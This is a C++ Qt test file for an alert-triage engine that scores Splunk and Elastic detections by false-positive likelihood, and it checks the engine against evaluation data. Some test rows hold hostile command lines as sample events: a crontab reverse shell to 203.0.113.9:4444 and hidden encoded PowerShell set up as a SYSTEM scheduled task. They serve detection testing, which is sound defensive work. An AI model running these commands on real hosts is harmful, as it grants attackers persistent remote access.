#include "explain/BulkFinder.h"
#include "explain/Evaluation.h"
#include "explain/ExplanationEngine.h"
#include "explain/StoredEvidence.h"
#include "explain/WorkspaceExplainer.h"
#include "ingest/Importer.h"
#include "ingest/NormalizedEvent.h"
#include "knowledge/KnowledgeBase.h"
#include "store/Statement.h"
#include "store/Transaction.h"
#include "store/Workspace.h"
#include "workspace/DemoWorkspace.h"
#include "workspace/WorkspaceSettings.h"

#include <QRandomGenerator>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace tb;

using Fields = QList<QPair<QString, QString>>;

class TestExplanationEngine : public QObject {
    Q_OBJECT
    QTemporaryDir m_dir;
    Workspace m_mixed;

    static NormalizedEvent event(const Fields &fields) {
        NormalizedEvent e;
        for (const auto &[column, value] : fields)
            e.set(*eventFieldByColumn(column), value);
        return e;
    }

    static ConditionSettings demoSettings() {
        ConditionSettings settings;
        for (const auto &[name, values] : DemoWorkspace::demoSettings())
            settings.insert(name, values);
        return settings;
    }

    static QStringList ids(const QList<EvidenceHit> &hits) {
        QStringList out;
        for (const EvidenceHit &h : hits)
            out << h.id;
        return out;
    }

    static ConditionSettings evaluationSettings() {
        return {{QStringLiteral("admin_accounts"), {QStringLiteral("adm_*")}},
                {QStringLiteral("management_servers"),
                 {QStringLiteral("adm-jump-01"), QStringLiteral("adm-jump-02")}},
                {QStringLiteral("internal_networks"),
                 {QStringLiteral("10.0.0.0/8"), QStringLiteral("172.16.0.0/12"),
                  QStringLiteral("192.168.0.0/16")}}};
    }

    // A workspace of both demo exports and both evaluation-set exports, imported once.
    Workspace &mixedWorkspace() {
        if (!m_mixed.isOpen()) {
            const QString path = m_dir.filePath(QStringLiteral("mixed.tunebench"));
            if (!m_mixed.open(path))
                qFatal("cannot open %s", qPrintable(path));
            for (const QString &file :
                 {QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"),
                  QStringLiteral(DEMO_DATA_DIR "/elastic_alerts.ndjson"),
                  QStringLiteral(TEST_DATA_DIR "/evaluation/eval_splunk_notables.csv"),
                  QStringLiteral(TEST_DATA_DIR "/evaluation/eval_elastic_alerts.ndjson")})
                if (!Importer(m_mixed.database()).importFile(file, {}).ok())
                    qFatal("cannot import %s", qPrintable(file));
        }
        return m_mixed;
    }

    // Every event as (id, fields), in id order.
    static QList<QPair<qint64, NormalizedEvent>> allEvents(Database &db) {
        QString columns = QStringLiteral("id");
        for (const EventFieldInfo &info : eventFields())
            columns += QStringLiteral(", ") + QLatin1String(info.column);
        Statement query = db.prepare(QStringLiteral("SELECT %1 FROM events ORDER BY id").arg(columns));
        QList<QPair<qint64, NormalizedEvent>> events;
        while (query.step()) {
            NormalizedEvent event;
            for (int f = 0; f < eventFieldCount; ++f)
                event.fields[size_t(f)] = query.columnText(f + 1);
            events.append({query.columnInt64(0), event});
        }
        return events;
    }

    // The folding prevalenceKey stands for, as the regular expressions it replaced.
    static QString prevalenceKeyByRegex(const QString &value) {
        static const QRegularExpression guid(
            QStringLiteral("\\{?[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\\}?"));
        static const QRegularExpression sid(QStringLiteral("s-1-\\d+(-\\d+)+"));
        static const QRegularExpression version(QStringLiteral("\\d+(\\.\\d+)+"));
        static const QRegularExpression userFolder(QStringLiteral("\\\\users\\\\[^\\\\]+\\\\"));
        QString key = value.toLower();
        key.replace(guid, QStringLiteral("{guid}"));
        key.replace(sid, QStringLiteral("sid"));
        key.replace(version, QStringLiteral("v"));
        key.replace(userFolder, QStringLiteral("\\users\\*\\"));
        return key;
    }

private slots:
    // Realistic events, the evidence they must raise, and the note and theme that must come first.
    void explainsEvents_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QString>("topTheme");
        QTest::addColumn<QStringList>("expectedEvidence");
        QTest::addColumn<QStringList>("expectedCounter");
        QTest::addColumn<bool>("likelyFalsePositive");

        QTest::newRow("installer registers a vendor updater as SYSTEM")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"parent_name", "msiexec.exe"},
                      {"parent_image", "C:\\Windows\\System32\\msiexec.exe"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks.exe /Create /TN \"Adobe Acrobat Update Task\" /TR \"C:\\Program Files "
                       "(x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe\" /SC DAILY /RU SYSTEM"},
                      {"task_name", "\\Adobe Acrobat Update Task"},
                      {"task_action", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"},
                      {"task_run_as", "SYSTEM"},
                      {"user", "SYSTEM"}}
            << "system_task_by_application" << QStringList{"installer_parent", "vendor_task_name"}
            << QStringList{} << true;
        QTest::newRow("encoded PowerShell from Temp parent")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"parent_name", "invoice_viewer.exe"},
                      {"parent_image", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\invoice_viewer.exe"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks /create /sc onlogon /tn WindowsDefenderUpdate /tr \"powershell.exe -nop -w "
                       "hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\" /ru SYSTEM /rl HIGHEST"},
                      {"task_name", "\\WindowsDefenderUpdate"},
                      {"task_action",
                       "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
                      {"task_run_as", "SYSTEM"},
                      {"user", "jdoe"}}
            << "system_task_by_application" << QStringList{}
            << QStringList{"encoded_powershell_action", "hidden_window_action"} << false;
        QTest::newRow("crontab reverse shell")
            << Fields{{"rule_name", "Linux Possible Append Cronjob Entry on Existing Cronjob File"},
                      {"process_name", "bash"},
                      {"command_line",
                       "bash -c echo '* * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> /etc/crontab"},
                      {"target_path", "/etc/crontab"},
                      {"user", "www-data"},
                      {"platform", "linux"}}
            << "linux_admin" << QStringList{} << QStringList{"reverse_shell"} << false;
        QTest::newRow("GPO ScheduledTasks.xml from the DC itself")
            << Fields{{"rule_name", "Persistence and Execution at Scale via GPO Scheduled Task"},
                      {"event_code", "5145"},
                      {"target_path",
                       "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
                       "\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"},
                      {"source_ip", "127.0.0.1"},
                      {"user", "adm_gpo"},
                      {"host", "dc01"}}
            << "gpo_localhost" << QStringList{} << QStringList{} << true;
        QTest::newRow("GPO ScheduledTasks.xml from a remote address")
            << Fields{{"rule_name", "Persistence and Execution at Scale via GPO Scheduled Task"},
                      {"event_code", "5145"},
                      {"target_path",
                       "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
                       "\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"},
                      {"source_ip", "198.51.100.37"},
                      {"user", "adm_gpo"},
                      {"host", "dc01"}}
            << "gpo_localhost" << QStringList{} << QStringList{"gpo_edit_from_remote_address"} << false;
    }
    void explainsEvents() {
        QFETCH(Fields, fields);
        QFETCH(QString, topTheme);
        QFETCH(QStringList, expectedEvidence);
        QFETCH(QStringList, expectedCounter);
        QFETCH(bool, likelyFalsePositive);
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, demoSettings());
        const Explanation e = engine.explain(event(fields), Prevalence{1, 1, 30});
        QVERIFY(!e.ruleId.isEmpty());
        QVERIFY(!e.notes.isEmpty());
        QCOMPARE(kb.note(e.notes.first().noteId)->theme, topTheme);
        QStringList support;
        for (const NoteExplanation &n : e.notes)
            support << ids(n.evidence);
        for (const QString &id : expectedEvidence)
            QVERIFY2(support.contains(id),
                     qPrintable(id + QStringLiteral(" not in ") + support.join(QLatin1Char(','))));
        for (const QString &id : expectedCounter)
            QVERIFY2(
                ids(e.counterEvidence).contains(id),
                qPrintable(id + QStringLiteral(" not in ") + ids(e.counterEvidence).join(QLatin1Char(','))));
        QCOMPARE(e.fpLikelihood >= 50, likelyFalsePositive);
        // Every point is traceable: the likelihood is the sum of its named terms, clamped.
        int sum = 0;
        for (const EvidenceHit &term : e.likelihoodBreakdown)
            sum += term.points;
        QCOMPARE(e.fpLikelihood, std::clamp(sum, 0, 100));
    }

    // Every predicate of the knowledge base can fire: an event built from its own condition matches.
    void everyPredicateCanFire() {
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        ConditionSettings settings = demoSettings();
        settings.insert(QStringLiteral("trusted_software"), {QStringLiteral("*trusted-tool*")});
        settings.insert(QStringLiteral("admin_groups"), {QStringLiteral("CORP\\Tier1 Admins")});
        int checked = 0;
        for (const EvidencePredicate &p : kb.evidence()) {
            bool buildable = true;
            NormalizedEvent e;
            for (const FieldPredicate &f : p.condition.match) {
                QString value =
                    f.settingName.isEmpty() ? f.values.value(0) : settings.value(f.settingName).value(0);
                if (f.kind == FieldPredicate::Kind::Exists)
                    value =
                        f.values.value(0) == QLatin1String("false") ? QString() : QStringLiteral("10.1.2.3");
                if (f.kind == FieldPredicate::Kind::Regex || f.kind == FieldPredicate::Kind::Cidr)
                    buildable = false; // a regex or network is no sample value
                value.replace(QLatin1Char('*'), QStringLiteral("x"))
                    .replace(QLatin1Char('?'), QStringLiteral("x"));
                e.set(f.field,
                      e.value(f.field).isEmpty() ? value : e.value(f.field) + QLatin1Char(' ') + value);
            }
            if (!buildable || !p.condition.filter.isEmpty())
                continue;
            ++checked;
            QVERIFY2(ConditionMatcher(p.condition, settings).matches(LoweredEvent::from(e)),
                     qPrintable(p.id));
        }
        QVERIFY2(checked >= 20, qPrintable(QString::number(checked)));
    }

    // The demo workspace against its ground truth: the figures the issue sets as targets.
    void demoGroundTruth() {
        const QString path = m_dir.filePath(QStringLiteral("demo.tunebench"));
        QString error;
        QVERIFY2(DemoWorkspace::ensure(path, &error), qPrintable(error));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        const EvaluationReport report = Evaluation::run(workspace.database(), KnowledgeBase::builtIn(),
                                                        QStringLiteral(DEMO_DATA_DIR "/ground_truth.csv"));
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.unmatchedLabels, 0);
        QCOMPARE(report.engine.labelled, 383);
        QVERIFY2(report.engine.top1 >= 0.95, qPrintable(report.toText()));
        QVERIFY2(report.engine.top3 >= 0.98, qPrintable(report.toText()));
        QVERIFY2(report.engine.benignLikely >= 0.85, qPrintable(report.toText()));
        QVERIFY2(report.engine.maliciousLikely <= 0.05, qPrintable(report.toText()));
        QVERIFY2(report.engine.auc >= 0.95, qPrintable(report.toText()));
        QCOMPARE(report.baseline.auc, 0.5);
    }

    // The independent evaluation set (written without looking at the predicates). Its figures miss
    // the targets (85 % / 5 % / 0.95, see docs/EXPLANATIONS.md); these bounds guard the
    // measured level against regressions.
    void independentEvaluationSet() {
        const QString path = m_dir.filePath(QStringLiteral("evaluation.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        for (const char *file : {"eval_splunk_notables.csv", "eval_elastic_alerts.ndjson"})
            QVERIFY(Importer(workspace.database())
                        .importFile(QStringLiteral(TEST_DATA_DIR "/evaluation/") + QLatin1String(file), {})
                        .ok());
        {
            Transaction transaction(workspace.database());
            WorkspaceSettings::set(workspace.database(), QStringLiteral("admin_accounts"),
                                   {QStringLiteral("adm_*")}, {});
            WorkspaceSettings::set(workspace.database(), QStringLiteral("management_servers"),
                                   {QStringLiteral("adm-jump-01"), QStringLiteral("adm-jump-02")}, {});
            WorkspaceSettings::set(workspace.database(), QStringLiteral("internal_networks"),
                                   {QStringLiteral("10.0.0.0/8"), QStringLiteral("172.16.0.0/12"),
                                    QStringLiteral("192.168.0.0/16")},
                                   {});
            transaction.commit();
        }
        QVERIFY(WorkspaceExplainer(workspace.database(), KnowledgeBase::builtIn()).run().ok);
        const EvaluationReport report =
            Evaluation::run(workspace.database(), KnowledgeBase::builtIn(),
                            QStringLiteral(TEST_DATA_DIR "/evaluation/labels.csv"));
        QVERIFY2(report.ok, qPrintable(report.error));
        QCOMPARE(report.engine.labelled, 841);
        qInfo().noquote() << report.toText();
        QVERIFY2(report.engine.auc >= 0.92, qPrintable(report.toText()));
        QVERIFY2(report.engine.benignLikely >= 0.80, qPrintable(report.toText()));
        QVERIFY2(report.engine.maliciousLikely <= 0.08, qPrintable(report.toText()));
    }

    // prevalenceKey folds per-user and per-version parts exactly as the regular expressions it
    // replaced did, on real task names and actions and on random text made of their pieces.
    void prevalenceKeyFoldsLikeItsRegexes_data() {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("key");
        QTest::newRow("GUID in braces") << "GoogleUpdateTaskMachineUA{28398F9F-4BA7-1AB7-AC05-04A56CC6BE18}"
                                        << "googleupdatetaskmachineua{guid}";
        QTest::newRow("SID") << "OneDrive Standalone Update Task-S-1-5-21-3623811015-3361044348-30300820-1013"
                             << "onedrive standalone update task-sid";
        QTest::newRow("version") << "C:\\Program Files\\App\\1.0.2\\up.exe"
                                 << "c:\\program files\\app\\v\\up.exe";
        QTest::newRow("user folder") << "C:\\Users\\jdoe\\AppData\\Local\\x.exe"
                                     << "c:\\users\\*\\appdata\\local\\x.exe";
        QTest::newRow("nothing to fold") << "\\Contoso\\LogRetention"
                                         << "\\contoso\\logretention";
    }
    void prevalenceKeyFoldsLikeItsRegexes() {
        QFETCH(QString, value);
        QFETCH(QString, key);
        QCOMPARE(prevalenceKey(value), key);
        QCOMPARE(prevalenceKeyByRegex(value), key);
        QRandomGenerator random(20261201);
        const QStringList pieces{"{",        "}",     "-",     ".",
                                 "\\",       "s-1-",  "5",     "21",
                                 "0123abcd", "-4ba7", "users", "\\users\\",
                                 "a",        "Z",     "9.",    "{28398f9f-4ba7-1ab7-ac05-04a56cc6be18}",
                                 " "};
        for (int round = 0; round < 3000; ++round) {
            QString text = value.left(int(random.bounded(value.size() + 1)));
            for (int i = int(random.bounded(8)); i > 0; --i)
                text += pieces[random.bounded(pieces.size())];
            QCOMPARE(prevalenceKey(text), prevalenceKeyByRegex(text));
        }
    }

    // Explaining a workspace in bulk finds exactly what the engine finds event by event.
    void bulkFinderFindsWhatTheEngineFinds_data() {
        QTest::addColumn<bool>("withSettings");
        QTest::newRow("no settings") << false;
        QTest::newRow("analyst settings") << true;
    }
    void bulkFinderFindsWhatTheEngineFinds() {
        QFETCH(bool, withSettings);
        ConditionSettings settings;
        if (withSettings) {
            settings = evaluationSettings();
            settings.insert(QStringLiteral("trusted_software"), {QStringLiteral("*Contoso*")});
        }
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, settings);
        BulkFinder finder(engine, kb);
        const auto events = allEvents(mixedWorkspace().database());
        QVERIFY2(events.size() > 1100, qPrintable(QString::number(events.size())));
        int withEvidence = 0;
        for (const auto &[id, event] : events) {
            std::vector<QByteArray> utf8;
            std::vector<std::string_view> values;
            for (EventField f : finder.fields())
                utf8.push_back(event.value(f).toUtf8());
            for (const QByteArray &u : utf8)
                values.emplace_back(u.constData(), size_t(u.size()));
            const EventFindings bulk = finder.table()[finder.find(values.data())];
            const EventFindings single = engine.find(event);
            QVERIFY2(bulk == single, qPrintable(QStringLiteral("event %1").arg(id)));
            withEvidence += single.evidence.any() ? 1 : 0;
        }
        QVERIFY(withEvidence > events.size() / 2);
    }

    // The stored results equal explaining each event alone with its prevalence counted in SQL;
    // the stored evidence renders the same sentences.
    void workspaceExplainerEqualsOneByOne() {
        Database &db = mixedWorkspace().database();
        {
            Transaction transaction(db);
            const ConditionSettings settings = evaluationSettings();
            for (auto it = settings.cbegin(); it != settings.cend(); ++it)
                WorkspaceSettings::set(db, it.key(), it.value(), {});
            transaction.commit();
        }
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        QVERIFY(WorkspaceExplainer(db, kb).run().ok);
        QHash<QString, QSet<QString>> taskHosts, actionHosts;
        Statement distinct =
            db.prepare(QStringLiteral("SELECT DISTINCT task_name, task_action, host FROM events"));
        while (distinct.step()) {
            if (!distinct.isNull(0))
                taskHosts[prevalenceKey(distinct.columnText(0))].insert(distinct.columnText(2));
            if (!distinct.isNull(1))
                actionHosts[prevalenceKey(distinct.columnText(1))].insert(distinct.columnText(2));
        }
        const int hosts = int(db.queryInt(QStringLiteral("SELECT count(DISTINCT host) FROM events")));
        const ExplanationEngine engine(kb, evaluationSettings());
        Statement assessment = db.prepare(QStringLiteral(
            "SELECT fp_likelihood, counter_evidence FROM event_assessments WHERE event_id = ?1"));
        Statement notes = db.prepare(QStringLiteral(
            "SELECT note_id, score, evidence FROM event_explanations WHERE event_id = ?1 ORDER BY rank"));
        for (const auto &[id, event] : allEvents(db)) {
            const QString task = prevalenceKey(event.value(EventField::TaskName));
            const QString action = prevalenceKey(event.value(EventField::TaskAction));
            const Prevalence prevalence{task.isEmpty() ? 0 : int(taskHosts.value(task).size()),
                                        action.isEmpty() ? 0 : int(actionHosts.value(action).size()), hosts};
            const Explanation expected = engine.explain(event, prevalence);
            assessment.bind(1, id);
            QVERIFY(assessment.step());
            QCOMPARE(int(assessment.columnInt64(0)), expected.fpLikelihood);
            const QList<StoredEvidence> counter = StoredEvidence::read(assessment.columnText(1), kb, event);
            QCOMPARE(counter.size(), expected.counterEvidence.size());
            for (qsizetype i = 0; i < counter.size(); ++i) {
                QCOMPARE(counter[i].id, expected.counterEvidence[i].id);
                QCOMPARE(counter[i].sentence, expected.counterEvidence[i].sentence);
            }
            assessment.reset();
            notes.bind(1, id);
            qsizetype rank = 0;
            while (notes.step()) {
                QVERIFY2(rank < expected.notes.size(), qPrintable(QStringLiteral("event %1").arg(id)));
                const NoteExplanation &n = expected.notes.at(rank++);
                QCOMPARE(notes.columnText(0), n.noteId);
                QCOMPARE(int(notes.columnInt64(1)), n.score);
                const QList<StoredEvidence> evidence = StoredEvidence::read(notes.columnText(2), kb, event);
                QCOMPARE(evidence.size(), n.evidence.size());
                for (qsizetype i = 0; i < evidence.size(); ++i) {
                    QCOMPARE(evidence[i].sentence, n.evidence[i].sentence);
                    QCOMPARE(evidence[i].points, n.evidence[i].points);
                }
            }
            notes.reset();
            QCOMPARE(rank, std::min<qsizetype>(expected.notes.size(), WorkspaceExplainer::KeptNotes));
        }
    }

    // Changing a setting makes stored explanations stale; explaining again uses the new lists.
    void reExplainsAfterSettingsChange() {
        const QString path = m_dir.filePath(QStringLiteral("settings.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        QVERIFY(Importer(workspace.database())
                    .importFile(QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"), {})
                    .ok());
        WorkspaceExplainer explainer(workspace.database(), KnowledgeBase::builtIn());
        QVERIFY(explainer.isStale());
        QVERIFY(explainer.run().ok);
        QVERIFY(!explainer.isStale());
        auto adminSentences = [&workspace] {
            return workspace.database().queryInt(
                QStringLiteral("SELECT count(*) FROM event_explanations WHERE evidence LIKE "
                               "'%\"id\":\"admin_account\"%'"));
        };
        QCOMPARE(adminSentences(), 0);
        {
            Transaction transaction(workspace.database());
            WorkspaceSettings::set(workspace.database(), QStringLiteral("admin_accounts"),
                                   {QStringLiteral("adm_*")}, QStringLiteral("test"));
            transaction.commit();
        }
        QVERIFY(explainer.isStale());
        const auto result = explainer.runIfStale();
        QVERIFY(result.ok);
        QVERIFY(result.distinct > 0 && result.distinct <= result.events);
        QVERIFY(adminSentences() > 0);
        QCOMPARE(
            workspace.database().queryInt(QStringLiteral("SELECT count(*) FROM audit_log WHERE action = "
                                                         "'setting.set' AND object_id = 'admin_accounts'")),
            1);
    }

    void cancelWritesNothing() {
        const QString path = m_dir.filePath(QStringLiteral("cancel.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        QVERIFY(Importer(workspace.database())
                    .importFile(QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"), {})
                    .ok());
        // Progress is reported every 100 ms: a cancel at the first report leaves nothing.
        WorkspaceExplainer explainer(workspace.database(), KnowledgeBase::builtIn());
        const auto result = explainer.run([](qint64, qint64) { return false; });
        if (result.cancelled)
            QCOMPARE(workspace.database().queryInt(QStringLiteral("SELECT count(*) FROM event_assessments")),
                     0);
        else
            QVERIFY(result.ok); // finished before the first report: nothing to cancel
    }
};

QTEST_GUILESS_MAIN(TestExplanationEngine)
#include "tst_explanationengine.moc"
